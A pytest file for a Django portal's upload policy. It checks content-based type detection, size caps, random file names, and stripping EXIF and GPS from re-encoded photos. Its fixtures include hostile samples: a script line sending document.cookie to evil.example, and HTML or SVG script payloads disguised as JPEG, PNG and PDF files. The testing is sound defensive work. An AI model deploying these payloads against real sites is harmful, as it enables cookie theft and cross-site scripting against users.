"""One upload policy for every file field: types by content, a size cap, random names, pictures
re-encoded without EXIF and GPS, nothing scriptable; site forms, services and admin alike."""

from __future__ import annotations

import datetime
import io
import re
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import ExifTags, Image

from alliance.forms import FollowUpUpdateForm
from alliance.models import FollowUp
from alliance.services import followups
from alliance.services.rota import rota_generate
from common.uploads import POLICIES, upload_check
from exchange.models import ImportJob
from organizations.resources import UnitResource
from pledges.forms import ProgressForm
from portal.models import Announcement
from portal.services import announcement_save
from servicemap.models import ServiceSite, SitePhoto
from tests.exchange.conftest import sheet
from tests.exchange.test_unit_import import unit_rows
from tests.factories import CommunityFactory, StreetFactory, street_staff
from tests.factories.alliance import UnitFactory, at, contact, party_committee, schedule
from tests.factories.files import PDF, jpeg_upload, pdf_upload, picture_bytes, xlsx_bytes

pytestmark = pytest.mark.django_db

HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/')</script></body></html>"
SCRIPTABLE = {
    "page.html": HTML,
    "page.jpg": HTML,
    "run.js": b"document.location='https://evil.example/?c='+document.cookie",
    "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "logo.png": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>',
    "page.pdf": b"  <html><script>alert(1)</script></html>",
}


def gps_jpeg() -> bytes:
    """An 8x6 picture tagged "turn 90 degrees" with the GPS position of the street office."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (36.0, 51.0, 36.0), 3: "E", 4: (117.0, 44.0, 24.0)}
    exif[ExifTags.Base.Make] = "居民的手机"
    return picture_bytes("JPEG", exif=exif.tobytes())


@pytest.fixture
def item() -> FollowUp:
    community = CommunityFactory(parent=StreetFactory())
    committee = party_committee(community)
    UnitFactory(community=community)
    rota_generate(committee=committee, year=2026)
    meeting = schedule(committee, at(2026, 3, 10, 14))
    return followups.followup_create(
        meeting=meeting,
        title="楼道灯维修",
        owner=UnitFactory(community=community),
        due_on=datetime.date(2026, 4, 1),
        created_at=at(2026, 3, 10),
    )


def site() -> ServiceSite:
    return ServiceSite.objects.create(
        name="山水红驿",
        kind="rest",
        node=CommunityFactory(parent=StreetFactory()),
        address="岱溪路 8 号",
        latitude=36.861,
        longitude=117.741,
    )


def test_an_html_file_named_jpg_is_refused_as_every_kind_of_picture():
    for key in ("site_photo", "pledge_photo"):
        with pytest.raises(ValidationError) as caught:
            upload_check(SimpleUploadedFile("photo.jpg", HTML, "image/jpeg"), key)
        assert caught.value.code == "wrong_type"
    form = ProgressForm(
        data={"status": "kept"},
        files={"evidence_photo": SimpleUploadedFile("photo.jpg", HTML, "image/jpeg")},
    )
    assert not form.is_valid() and "evidence_photo" in form.errors


def test_a_truncated_jpeg_with_the_right_magic_is_not_a_picture():
    with pytest.raises(ValidationError) as caught:
        upload_check(SimpleUploadedFile("p.jpg", b"\xff\xd8\xff\xe0 not really"), "pledge_photo")
    assert caught.value.code in {"not_image", "wrong_type"}


@pytest.mark.parametrize("name", sorted(SCRIPTABLE))
def test_scriptable_evidence_is_refused_on_the_page_and_in_the_service(client, item, name):
    content = SCRIPTABLE[name]
    form = FollowUpUpdateForm(
        data={"status": "in_progress"}, files={"evidence_file": SimpleUploadedFile(name, content)}
    )
    assert not form.is_valid() and "evidence_file" in form.errors
    client.force_login(contact(item.owner))
    client.post(
        reverse("alliance:followup-action", args=[item.pk, "update"]),
        {"status": "in_progress", "evidence_file": SimpleUploadedFile(name, content)},
    )
    item.refresh_from_db()
    assert not item.evidence_file and item.status == "open"
    # The API and any other caller reach the same model validator through the service.
    with pytest.raises(ValidationError) as caught:
        followups.followup_update(
            item=item, status="done", evidence_file=SimpleUploadedFile(name, content)
        )
    assert "evidence_file" in caught.value.message_dict
    item.refresh_from_db()
    assert not item.evidence_file


@pytest.mark.parametrize("policy", sorted(POLICIES))
def test_no_policy_takes_html_svg_or_script(policy):
    for name, content in SCRIPTABLE.items():
        if policy == "workbook" and name == "run.js":
            # Any plain text is a CSV to a spreadsheet: it is kept as .csv and never served.
            assert upload_check(SimpleUploadedFile(name, content), policy) == "csv"
            continue
        with pytest.raises(ValidationError):
            upload_check(SimpleUploadedFile(name, content), policy)


def test_even_code_that_saves_a_file_directly_goes_through_the_policy(item):
    from django.core.files.base import ContentFile

    with pytest.raises(ValidationError):
        item.evidence_file.save("proof.pdf", ContentFile(HTML), save=True)
    item.refresh_from_db()
    assert not item.evidence_file


def test_a_picture_comes_back_upright_without_exif_or_gps():
    photo = SitePhoto(
        site=site(),
        caption="驿站门口",
        image=SimpleUploadedFile("door.jpg", gps_jpeg(), "image/jpeg"),
    )
    photo.full_clean()
    photo.save()
    stored = Path(photo.image.path).read_bytes()
    assert b"Exif" not in stored and "居民的手机".encode() not in stored
    with Image.open(io.BytesIO(stored)) as picture:
        assert picture.format == "JPEG"
        assert not picture.getexif() and not picture.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert picture.size == (6, 8)  # the orientation was applied, not lost


def test_an_announcement_picture_is_re_encoded_too():
    item = announcement_save(
        announcement=Announcement(
            title="通知",
            category="health",
            node=StreetFactory(),
            body="<p>x</p>",
            attachment=SimpleUploadedFile("poster.jpg", gps_jpeg(), "image/jpeg"),
        )
    )
    with Image.open(item.attachment.path) as picture:
        assert not picture.getexif().get_ifd(ExifTags.IFD.GPSInfo)


def test_an_oversize_file_is_refused_with_a_translated_message(settings, item):
    settings.EVIDENCE_MAX_BYTES = 100
    with translation.override("zh-hans"):
        form = FollowUpUpdateForm(
            data={"status": "in_progress"}, files={"evidence_file": pdf_upload()}
        )
        assert not form.is_valid()
        assert "文件过大：这里最多 100" in str(form.errors["evidence_file"])
    settings.EVIDENCE_MAX_BYTES = 10 * 1024 * 1024
    form = FollowUpUpdateForm(data={"status": "in_progress"}, files={"evidence_file": pdf_upload()})
    assert form.is_valid(), form.errors


def test_the_site_photo_cap_is_the_policys_setting(settings):
    settings.SITE_PHOTO_MAX_BYTES = 100
    photo = SitePhoto(site=site(), caption="门口", image=jpeg_upload(size=(64, 64)))
    with pytest.raises(ValidationError) as caught:
        photo.full_clean()
    assert caught.value.error_dict["image"][0].code == "too_big"


def test_stored_names_are_random_and_carry_the_type_found(item):
    names = []
    for upload in (pdf_upload("会议纪要.pdf"), pdf_upload("会议纪要.pdf")):
        followups.followup_update(item=item, status="in_progress", evidence_file=upload)
        item.refresh_from_db()
        names.append(item.evidence_file.name)
    assert names[0] != names[1]
    for name in names:
        assert re.fullmatch(r"evidence/\d{4}/\d{2}/[0-9a-f]{32}\.pdf", name), name
    # A real PNG sent as "scan.pdf" is kept as what it is.
    followups.followup_update(
        item=item,
        status="in_progress",
        evidence_file=SimpleUploadedFile("scan.pdf", picture_bytes("PNG")),
    )
    item.refresh_from_db()
    assert item.evidence_file.name.endswith(".png")


def test_documents_the_evidence_policy_takes_are_accepted():
    documents = (("a.pdf", PDF), ("a.xlsx", xlsx_bytes()), ("a.webp", picture_bytes("WEBP")))
    for name, content in documents:
        assert upload_check(SimpleUploadedFile(name, content), "evidence") == name.split(".")[1]


def test_an_admin_add_of_an_announcement_with_an_html_attachment_fails(client):
    street = StreetFactory()
    client.force_login(street_staff(street))
    response = client.post(
        reverse("admin:portal_announcement_add"),
        {
            "title": "停水通知",
            "category": "health",
            "node": street.pk,
            "body": "<p>周二停水</p>",
            "published_at_0": "2026-03-01",
            "published_at_1": "09:00:00",
            "attachment": SimpleUploadedFile("通知.pdf", HTML, "application/pdf"),
        },
    )
    assert response.status_code == 200
    assert "attachment" in response.context["adminform"].form.errors
    assert not Announcement.objects.exists()
    response = client.post(
        reverse("admin:portal_announcement_add"),
        {
            "title": "停水通知",
            "category": "health",
            "node": street.pk,
            "body": "<p>周二停水</p>",
            "published_at_0": "2026-03-01",
            "published_at_1": "09:00:00",
            "attachment": pdf_upload("通知.pdf"),
        },
    )
    assert response.status_code == 302
    assert Announcement.objects.get().attachment.name.endswith(".pdf")


def test_the_import_refuses_a_page_named_csv_and_stores_a_workbook_under_a_random_name(
    client, small_street, eager_celery, django_capture_on_commit_callbacks
):
    client.force_login(street_staff(small_street.street))
    url = reverse("admin:exchange_importjob_upload")
    response = client.post(url, {"kind": "units", "file": SimpleUploadedFile("units.csv", HTML)})
    assert response.status_code == 200 and not ImportJob.objects.exists()
    assert "file" in response.context["form"].errors
    rows = unit_rows(small_street.communities, 2)
    workbook = sheet(UnitResource.headers(), rows, name="单位.xlsx")
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"kind": "units", "file": workbook})
    job = ImportJob.objects.get()
    assert re.fullmatch(r"imports/\d{4}/\d{2}/[0-9a-f]{32}\.xlsx", job.file.name)
    assert job.file_name == "单位.xlsx"
